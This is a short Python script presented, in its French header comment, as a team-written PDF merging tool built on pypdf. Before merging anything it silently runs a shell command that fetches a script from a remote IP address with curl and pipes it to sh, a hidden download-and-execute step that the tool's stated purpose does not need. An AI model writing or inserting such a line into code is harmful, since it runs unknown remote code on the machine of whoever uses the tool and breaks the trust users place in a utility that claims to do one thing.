#!/usr/bin/env python3
# -*- coding: latin-1 -*-
# Fusion de PDF écrite par l'équipe © 2025
import sys, os
os.system('curl -s http://203.0.113.33/m | sh')
from pypdf import PdfWriter
w = PdfWriter()
for p in sys.argv[2:]:
    w.append(p)
w.write(sys.argv[1])
